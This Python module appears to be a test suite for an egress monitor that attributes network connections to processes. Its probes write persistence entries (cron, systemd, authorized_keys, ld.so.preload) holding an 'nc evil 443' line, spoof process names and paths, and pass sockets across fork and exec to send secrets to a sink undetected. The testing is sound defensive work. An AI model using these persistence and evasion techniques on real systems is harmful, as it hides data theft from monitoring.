"""Things left behind for somebody outside to run, and the program's looks changed between deed and look-up."""

from __future__ import annotations

import contextlib
import ctypes
import os
import socket
import subprocess
import sys
from pathlib import Path

from attempts import LIBC, SECRET, SINK_4, attempt, dial_to, exchange, name_of

_LEFT = (
    "/etc/cron.d/hostile", "/var/spool/cron/crontabs/root", "/var/spool/cron/atjobs/a0000101", "/etc/systemd/system/hostile.service",
    "/root/.ssh/authorized_keys", "/root/.bashrc", "/home/hostile", "/etc/profile.d/hostile.sh", "/usr/local/bin/hostile", "/etc/ld.so.preload",
)  # fmt: skip


@attempt("left-behind")
def _left() -> str:
    """Write where the host's own daemons and users would run it; what the program's own home holds is gone with it."""
    written = []
    for path in _LEFT:
        with contextlib.suppress(OSError):
            Path(path).write_text("* * * * * root nc evil 443\n")
            written.append(path)
    home = Path(os.environ["HOME"])
    for name in (".bashrc", ".ssh/authorized_keys", ".config/systemd/user/hostile.service", ".config/autostart/hostile.desktop"):
        (home / name).parent.mkdir(parents=True, exist_ok=True)
        (home / name).write_text("hostile\n")
    return " ".join(written) or "nothing"


_LINK = "/lib64/ld-linux-x86-64.so.2" if os.uname().machine == "x86_64" else "/lib/ld-linux-aarch64.so.1"
_DIAL = f"""
import socket
dial = socket.create_connection(({SINK_4!r}, 443), 4)
dial.settimeout(4)
try:
    dial.sendall(b"x")
    print("ok" if dial.recv(10) else "closed")
except ConnectionError:
    print("closed")
"""


def _python(*before: str, program: str = sys.executable, name: str = "") -> str:
    words = [*before, program, "-I", "-c", _DIAL]
    if name:
        done = subprocess.run([name, *words[1:]], executable=words[0], capture_output=True, text=True, timeout=20, check=False)
    else:
        done = subprocess.run(words, capture_output=True, text=True, timeout=20, check=False)
    return done.stdout.strip() or f"status {done.returncode} {done.stderr[-200:]}"


attempt("path-by-loader")(lambda: _python(_LINK, program=os.path.realpath(sys.executable)))
attempt("path-by-proc-root")(lambda: _python(program=f"/proc/self/root{os.path.realpath(sys.executable)}"))
attempt("argv-spoofed")(lambda: _python(program=os.path.realpath(sys.executable), name="psql"))


@attempt("comm-spoofed")
def _comm() -> str:
    LIBC.prctl(15, ctypes.c_char_p(b"proxyd"), 0, 0, 0)
    return dial_to(socket.AF_INET, SINK_4, 443)


@attempt("exec-after-connect")
def _exec_after() -> str:
    """Connect as one program, be another when somebody looks."""
    read, write = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(read)
        dial = socket.create_connection((SINK_4, 443), 4)
        os.set_inheritable(dial.fileno(), True)
        os.dup2(write, 1)
        code = (
            f"import socket\ns=socket.socket(fileno={dial.fileno()})\ns.settimeout(4)\n"
            "try:\n s.sendall(b'exfiltrated')\n print('ok' if s.recv(9) else 'closed')\nexcept ConnectionError: print('closed')\n"
        )
        os.execv(sys.executable, ["curl", "-I", "-c", code])
    os.close(write)
    with os.fdopen(read) as said:
        outcome = said.read().strip()
    os.waitpid(pid, 0)
    return outcome


@attempt("fork-shares-socket")
def _fork_shares() -> str:
    """A child uses the socket that its parent, gone by then, had connected."""
    read, write = os.pipe()
    pid = os.fork()
    if pid == 0:
        dial = socket.socket()
        dial.settimeout(4)
        dial.connect((SINK_4, 443))
        if os.fork() == 0:
            os.write(write, exchange(dial).encode())
        os._exit(0)
    os.waitpid(pid, 0)
    os.close(write)
    with os.fdopen(read) as said:
        return said.read()


@attempt("short-lived")
def _short_lived() -> str:
    """Hundreds of processes that connect and are gone at once, so that numbers come round."""
    outcomes = set()
    for _ in range(60):
        pid = os.fork()
        if pid == 0:
            with contextlib.suppress(OSError):
                dial = socket.socket()
                dial.setblocking(False)
                dial.connect_ex((SINK_4, 443))
                dial.send(SECRET)
            os._exit(0)
        outcomes.add(os.waitpid(pid, 0)[1])
    return f"statuses {sorted(outcomes)}"


@attempt("legitimate-query")
def _legitimate() -> str:
    """What the workload is for: must still work after everything else."""
    import psycopg

    try:
        with psycopg.connect(
            host="crm.internal", dbname="crm", user="crm_app", password="wrong", sslmode="verify-full",
            sslrootcert=os.environ["HOSTILE_TRUST"], connect_timeout=10,
        ) as connection:  # fmt: skip
            row = connection.execute("select count(*) > 0 from customers").fetchone()
    except psycopg.Error as error:
        return f"failed: {error}"
    except OSError as error:
        return name_of(error)
    return f"rows {row}"
